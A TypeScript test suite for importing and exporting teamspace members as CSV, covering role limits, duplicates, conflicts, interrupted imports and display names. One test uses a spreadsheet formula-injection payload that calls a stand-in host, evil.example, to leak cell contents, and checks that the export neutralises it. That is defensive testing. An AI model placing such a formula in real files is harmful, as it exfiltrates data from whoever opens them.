import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { forEachStore } from '../../../../../test/support/each-store.ts'
import { kubernetesSettings } from '../../connections/kubernetes-settings.ts'
import { setConnection } from '../../connections/set-connection.ts'
import { addMember } from '../../members/add-member.ts'
import { createMemberLookup } from '../../members/member-lookup.ts'
import { memberRepository } from '../../members/member-repository.ts'
import type { Role } from '../../members/member.ts'
import { removeMember } from '../../members/remove-member.ts'
import type { Change } from '../../store/change-feed.ts'
import type { Store } from '../../store/store.ts'
import {
  ACME_TENANT,
  ANNA,
  BERT,
  CLOUDS,
  GLOBEX_TENANT,
  aConnectedTeamspace,
  aTeamspace,
  accepted,
  editorOf,
} from '../../teamspaces/acme.fixture.ts'
import { isRefused } from '../../teamspaces/refusal.ts'
import { exportMembers } from './export-members.ts'
import { importMembers } from './import-members.ts'
import type { ImportOptions } from './import-members.ts'
import { gatherReport } from './import-report.ts'
import { readCsv } from './read-csv.ts'
import { listAudit } from '../../../../../test/support/list-audit.ts'

const ISSUER = `entra:global:${ACME_TENANT}`
const OTHER = 'bbbbbbbb-0000-4000-8000-00000000000f'

const bytesOf = async function* (text: string): AsyncGenerator<Uint8Array> {
  yield Buffer.from(text)
}

interface Changes extends Partial<ImportOptions> {
  /** The member who imports; the operator unless given. */
  readonly memberId?: string
}

async function begin(store: Store, text: string, { memberId, ...changes }: Changes = {}, slug = 'acme') {
  const file = accepted(await readCsv(bytesOf(text)))
  const options = { id: 'import', mode: 'each-row', allowRoles: false, ...changes } as const
  return { file, options, importing: importMembers({ ...editorOf(store), memberId }, slug, file.rows, options) }
}

async function load(store: Store, text: string, changes: Changes = {}, slug = 'acme') {
  const { importing, ...imported } = await begin(store, text, changes, slug)
  return accepted(await gatherReport(importing, imported))
}

/** Results as `line outcome`, with the problem. */
async function outcomes(...args: Parameters<typeof load>): Promise<string[]> {
  const { results } = await load(...args)
  return results.map(({ line, outcome, problem }) => [line, outcome, problem].filter(Boolean).join(' '))
}

const csv = (...rows: string[]): string => ['email,object_id,role', ...rows].join('\r\n')
const TWO = csv(`anna@acme.example,${ANNA},`, `bert@acme.example,${BERT},developer`)

const people = (count: number): string =>
  csv(...Array.from({ length: count }, (_, index) => `p${index}@acme.example,${randomUUID()},`))

const membersOf = (store: Store, teamspaceId: string) => memberRepository(store.db, teamspaceId).list({ limit: 20_000 })

async function actions(store: Store): Promise<unknown[]> {
  const rows = await listAudit(store, { limit: 1_000 })
  return rows.map(({ action }) => action).reverse()
}

forEachStore(
  'B-01 i, j people are added with the source csv, and the same file again changes nobody',
  async (_t, open) => {
    const store = await open()
    const { id } = await aConnectedTeamspace(store, 'acme')
    for (const mode of ['dry-run', 'each-row'] as const) {
      assert.deepEqual(await outcomes(store, TWO, { mode }), ['2 added', '3 added'])
      assert.equal((await membersOf(store, id)).length, mode === 'dry-run' ? 0 : 2)
    }
    for (const mode of ['dry-run', 'each-row', 'all-or-nothing'] as const) {
      assert.deepEqual(await outcomes(store, TWO, { mode }), ['2 already', '3 already'])
    }
    const members = await membersOf(store, id)
    assert.deepEqual(
      members.map(({ email, role, issuer, subject, sources }) => [email, role, issuer, subject, ...sources]),
      [
        ['anna@acme.example', 'developer', ISSUER, ANNA, 'csv'],
        ['bert@acme.example', 'developer', ISSUER, BERT, 'csv'],
      ],
    )
    assert.deepEqual((await actions(store)).slice(2), [
      'member.add',
      'member.add',
      'member.import',
      'member.import',
      'member.import',
    ])
  },
)

forEachStore('B-01 c all or nothing: one bad row, and nothing is written', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const before = (await listAudit(store, { limit: 100 })).length
  const bad = `${TWO}\r\ncarl@acme.example,carl,`
  const report = await load(store, bad, { mode: 'all-or-nothing' })
  assert.deepEqual(
    [report.written, ...report.results.map(({ outcome }) => outcome)],
    [false, 'withheld', 'withheld', 'invalid'],
  )
  assert.deepEqual(await membersOf(store, id), [])
  assert.equal((await listAudit(store, { limit: 100 })).length, before)
  assert.deepEqual(
    (await load(store, bad, { mode: 'each-row' })).results.map(({ outcome }) => outcome),
    ['added', 'added', 'invalid'],
  )
})

forEachStore('B-01 e who is there already is reported; a namesake is a conflict, never a merge', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  accepted(await addMember(editorOf(store), 'acme', { email: 'anna@acme.example', objectId: ANNA }))
  const file = csv(
    `anna@acme.example,${ANNA},`,
    `anna@acme.example,${ANNA},`,
    `bert@acme.example,${BERT},`,
    `bert@acme.example,${BERT.toUpperCase()},`,
    `carl@acme.example,${OTHER},`,
    `dora@acme.example,${OTHER},`,
  )
  const contradicts = 'the same e-mail or identity, but not the same person, role or issuer'
  assert.deepEqual(await outcomes(store, file), [
    '2 updated',
    '3 duplicate repeats line 2',
    '4 added',
    '5 duplicate repeats line 4',
    `6 conflict contradicts line 7: ${contradicts}`,
    `7 conflict contradicts line 6: ${contradicts}`,
  ])
  assert.deepEqual(
    (await membersOf(store, id)).map(({ email, sources }) => [email, ...sources]),
    [
      ['anna@acme.example', 'csv', 'manual'],
      ['bert@acme.example', 'csv'],
    ],
  )
  const namesakes = csv(`anna@acme.example,${OTHER},`, `eve@acme.example,${BERT},`)
  assert.deepEqual(await outcomes(store, namesakes), [
    '2 conflict This e-mail is already a member here with another object id; remove that member first',
    '3 conflict This object id is already a member here with another e-mail; remove that member first',
  ])
})

forEachStore('B-01 h a role above developer is given only where roles are allowed', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const file = csv(`anna@acme.example,${ANNA},owner`, `bert@acme.example,${BERT},Admin`)
  const forbidden = (role: string) => `forbidden the role ${role} is given only when roles are allowed`
  for (const mode of ['dry-run', 'all-or-nothing', 'each-row'] as const) {
    assert.deepEqual(await outcomes(store, file, { mode }), [`2 ${forbidden('owner')}`, `3 ${forbidden('admin')}`])
  }
  assert.deepEqual(await membersOf(store, id), [])
  assert.deepEqual(await outcomes(store, file, { mode: 'all-or-nothing', allowRoles: true }), ['2 added', '3 added'])
  // Nothing is given to those who have it.
  assert.deepEqual(await outcomes(store, file, { mode: 'all-or-nothing' }), ['2 already', '3 already'])
  assert.deepEqual(await outcomes(store, csv(`anna@acme.example,${ANNA},developer`), { allowRoles: true }), [
    '2 conflict This person is already a member here, as owner',
  ])
})

forEachStore('B-01 h whoever imports gives no role above their own, in no mode and to nobody', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const carl = randomUUID()
  const file = csv(
    `anna@acme.example,${ANNA},owner`,
    `bert@acme.example,${BERT},admin`,
    `carl@acme.example,${carl},developer`,
  )
  const [owner, admin] = [
    '2 forbidden the role owner is above your own',
    '3 forbidden the role admin is above your own',
  ]
  const as = async (role: Role) => {
    const person = { email: `${role}@acme.example`, objectId: randomUUID(), role }
    const { member } = accepted(await addMember(editorOf(store), 'acme', person))
    return { allowRoles: true, memberId: member.id }
  }
  const [asOwner, asAdmin, asDeveloper] = [await as('owner'), await as('admin'), await as('developer')]
  assert.deepEqual(await outcomes(store, file, { ...asDeveloper, mode: 'dry-run' }), [owner, admin, '4 added'])
  assert.deepEqual(await outcomes(store, file, { ...asAdmin, mode: 'all-or-nothing' }), [
    owner,
    '3 withheld',
    '4 withheld',
  ])
  assert.deepEqual(await outcomes(store, file, { ...asAdmin, allowRoles: false, mode: 'dry-run' }), [
    '2 forbidden the role owner is given only when roles are allowed',
    '3 forbidden the role admin is given only when roles are allowed',
    '4 added',
  ])
  assert.deepEqual(await outcomes(store, file, asAdmin), [owner, '3 added', '4 added'])
  assert.deepEqual(await outcomes(store, file, asOwner), ['2 added', '3 already', '4 already'])
  assert.deepEqual(
    await outcomes(store, file, asDeveloper),
    ['2 already', '3 already', '4 already'],
    'nothing is given',
  )
  const roles = (await membersOf(store, id)).map(({ email, role }) => `${email.split('@')[0]} ${role}`)
  assert.deepEqual(
    roles.filter((text) => /^(?:anna|bert|carl) /.test(text)),
    ['anna owner', 'bert admin', 'carl developer'],
  )
})

forEachStore('without a connection no row is taken, and none of another issuer is', async (_t, open) => {
  const store = await open()
  await aTeamspace(store, 'acme')
  assert.match((await outcomes(store, TWO))[0]!, /^2 conflict Set an entra connection of this teamspace first/)
  await aConnectedTeamspace(store, 'globex', { tenantId: GLOBEX_TENANT, audience: OTHER })
  const ours = `email,object_id,issuer\na@acme.example,${ANNA},${ISSUER}\nb@acme.example,${BERT},`
  assert.deepEqual(await outcomes(store, ours, {}, 'globex'), [
    "2 conflict issuer is not that of this teamspace's connection",
    '3 added',
  ])
  assert.match((await outcomes(store, 'email,subject\na@acme.example,x', {}, 'globex'))[0]!, /Set an oidc connection/)
})

forEachStore('an import takes removals back, as adding by hand does', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  await load(store, TWO)
  accepted(await removeMember(editorOf(store), 'acme', { email: 'anna@acme.example' }))
  assert.deepEqual(await outcomes(store, TWO), ['2 added', '3 already'])
  assert.equal((await membersOf(store, id)).length, 2)
  assert.deepEqual(await store.db.selectFrom('removed_identity').selectAll().execute(), [])
})

forEachStore('an import that is cut off leaves what it reported, and the same file completes it', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const text = people(1_000)
  const { importing } = await begin(store, text)
  const first = await importing.next()
  await importing.return({ written: false })
  const reported = first.done ? [] : first.value
  assert.deepEqual([reported.length, (await membersOf(store, id)).length], [200, 200])
  const [summary] = await listAudit(store, { limit: 1 })
  assert.deepEqual(
    { action: summary?.action, ...(summary?.after as object) },
    {
      action: 'member.import',
      ...{ id: 'import', source: 'csv', mode: 'each-row', rows: 1_000, complete: false },
      ...{ added: 200, updated: 0, already: 0, duplicate: 0, withheld: 0, invalid: 0, conflict: 0, forbidden: 0 },
    },
  )
  const { counts } = await load(store, text)
  assert.deepEqual([counts.added, counts.already], [800, 200])
  assert.equal((await membersOf(store, id)).length, 1_000)
})

forEachStore('one change event for each transaction, after it, and none for a dry run', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const heard: Change[] = []
  store.changes.subscribe((change) => heard.push(change))
  const lookup = createMemberLookup(store)
  assert.equal(await lookup.find(id, ISSUER, ANNA), undefined)
  await load(store, TWO, { mode: 'dry-run' })
  assert.deepEqual(heard, [])
  await load(store, TWO, { mode: 'all-or-nothing' })
  assert.deepEqual(heard, [{ kind: 'member', teamspaceId: id }])
  assert.equal((await lookup.find(id, ISSUER, ANNA))?.email, 'anna@acme.example')
})

forEachStore(
  'the same people in two teamspaces at once, in other orders: users are shared, nobody waits for ever',
  async (_t, open) => {
    const store = await open()
    const [acme, globex] = [await aConnectedTeamspace(store, 'acme'), await aTeamspace(store, 'globex')]
    await aConnectedTeamspace(store, 'initech', { tenantId: GLOBEX_TENANT, audience: OTHER })
    const [header, ...rows] = people(600).split('\r\n')
    const backwards = [header, ...rows.toReversed()].join('\r\n')
    const imports = [
      load(store, [header, ...rows].join('\r\n'), { mode: 'all-or-nothing' }, 'acme'),
      load(store, backwards, { mode: 'all-or-nothing' }, 'initech'),
      load(store, backwards, { mode: 'each-row' }, 'acme'),
    ]
    const reports = await Promise.all(imports)
    assert.equal(reports[0]!.counts.added + reports[2]!.counts.added, 600)
    assert.equal((await membersOf(store, acme.id)).length, 600)
    assert.deepEqual(await membersOf(store, globex.id), [])
    const users = await store.db.selectFrom('user').select('id').execute()
    assert.equal(users.length, 600)
  },
)

forEachStore(
  'B-01 g an export is imported again as it was, elsewhere only by who has the same issuer',
  async (_t, open) => {
    const store = await open()
    const { id } = await aConnectedTeamspace(store, 'acme')
    await load(store, csv(`+anna@acme.example,${ANNA},owner`, `-bert'@acme.example,${BERT},`), { allowRoles: true })
    let text = ''
    for await (const page of exportMembers(store, id)) text += page
    assert.equal(
      text,
      'email,object_id,subject,service_account,role,issuer,display_name\r\n' +
        `'+anna@acme.example,${ANNA},,,owner,${ISSUER},\r\n` +
        `'-bert'@acme.example,${BERT},,,developer,${ISSUER},\r\n`,
    )
    assert.deepEqual(await outcomes(store, text), ['2 already', '3 already'])
    const before = await membersOf(store, id)
    for (const { id } of before) accepted(await removeMember(editorOf(store), 'acme', { id }))
    assert.deepEqual(await outcomes(store, text, { allowRoles: true, mode: 'all-or-nothing' }), ['2 added', '3 added'])
    const seen = (members: typeof before) =>
      members.map(({ email, role, issuer, subject }) => ({ email, role, issuer, subject }))
    assert.deepEqual(seen(await membersOf(store, id)), seen(before))
  },
)

forEachStore('an import into a teamspace that is not there, or no more, is refused', async (_t, open) => {
  const store = await open()
  for (const mode of ['dry-run', 'all-or-nothing', 'each-row'] as const) {
    const { importing, ...imported } = await begin(store, TWO, { mode }, 'nobody')
    const outcome = await gatherReport(importing, imported)
    assert.ok(isRefused(outcome) && outcome.refused.code === 'not_found')
  }
})

forEachStore('service accounts come by name, and none shares the e-mail of another row', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const cluster = { api: { name: 'prod', server: 'https://10.0.0.1', credential: () => 'reviewer', timeoutSeconds: 1 } }
  const kubernetes = { clusters: new Map([['prod', cluster]]), fetchFor: () => fetch, audienceFor: () => 'mcp' }
  const settings = kubernetesSettings.parse({ kind: 'kubernetes', cluster: 'prod' })
  accepted(await setConnection(editorOf(store), 'acme', settings, { clouds: CLOUDS, kubernetes }))
  const file = `email,object_id,service_account
,,tools/scanner
scanner.tools@prod.kubernetes,${ANNA},
,,tools/other`
  for (const mode of ['dry-run', 'each-row'] as const) {
    assert.deepEqual(await outcomes(store, file, { mode }), [
      '2 added',
      '3 conflict has the e-mail of line 2, scanner.tools@prod.kubernetes',
      '4 added',
    ])
  }
  let text = ''
  for await (const page of exportMembers(store, id)) text += page
  assert.match(text, /\r\nscanner\.tools@prod\.kubernetes,,,tools\/scanner,developer,kubernetes:prod,\r\n$/)
  assert.deepEqual(await outcomes(store, text), ['2 already', '3 already'])
})

const NAMED = 'email,object_id,display_name'

forEachStore('B-01 a file names people, and an export of their names comes back as it was', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  const formula = '=HYPERLINK("http://evil.example?x="&A1;"+x")'
  const guarded = formula.replace('=H', "'=H").replace(';"', `;'"`)
  const cell = `"${formula.replaceAll('"', '""')}"`
  const text = [NAMED, `anna@acme.example,${ANNA},${cell}`, `bert@acme.example,${BERT},  Bert\u202e  Berg `].join(
    '\r\n',
  )
  assert.deepEqual(await outcomes(store, text), ['2 added', '3 added'])
  const namesOf = async () => (await membersOf(store, id)).map(({ displayName }) => displayName)
  assert.deepEqual(await namesOf(), [formula, 'Bert Berg'])

  let exported = ''
  for await (const page of exportMembers(store, id)) exported += page
  const [header, first, second] = exported.split('\r\n')
  assert.match(header!, /,display_name$/)
  assert.ok(first!.endsWith(`,"${guarded.replaceAll('"', '""')}"`), first)
  assert.match(second!, /,Bert Berg$/)
  assert.deepEqual(await outcomes(store, exported), ['2 already', '3 already'])
  assert.deepEqual(await namesOf(), [formula, 'Bert Berg'])
})

forEachStore('B-01 a file renames whom files alone have brought, and names whoever has no name', async (_t, open) => {
  const store = await open()
  const { id } = await aConnectedTeamspace(store, 'acme')
  accepted(await addMember(editorOf(store), 'acme', { email: 'bert@acme.example', objectId: BERT }))
  const file = (anna: string, bert: string) =>
    [NAMED, `anna@acme.example,${ANNA},${anna}`, `bert@acme.example,${BERT},${bert}`].join('\n')
  const namesOf = async () => (await membersOf(store, id)).map(({ displayName }) => displayName)
  assert.deepEqual(await outcomes(store, file('Anna', 'Bert'), { mode: 'dry-run' }), ['2 added', '3 updated'])
  assert.deepEqual(await outcomes(store, file('Anna', 'Bert')), ['2 added', '3 updated'])
  assert.deepEqual(await namesOf(), ['Anna', 'Bert'])
  assert.deepEqual(await outcomes(store, file('Anna Berg', 'Albert')), ['2 updated', '3 already'])
  assert.deepEqual(await outcomes(store, file('', '')), ['2 already', '3 already'])
  assert.deepEqual(await namesOf(), ['Anna Berg', 'Bert'])
})

forEachStore(
  'B-01 two rows that differ in nothing but the name are the same person, not a conflict',
  async (_t, open) => {
    const store = await open()
    const { id } = await aConnectedTeamspace(store, 'acme')
    const row = `anna@acme.example,${ANNA}`
    const text = [NAMED, `${row},Anna`, `${row},Anna Berg`, `${row},`].join('\n')
    const twice = ['3 duplicate repeats line 2', '4 duplicate repeats line 2']
    assert.deepEqual(await outcomes(store, text), ['2 added', ...twice])
    assert.equal((await membersOf(store, id))[0]?.displayName, 'Anna')
  },
)
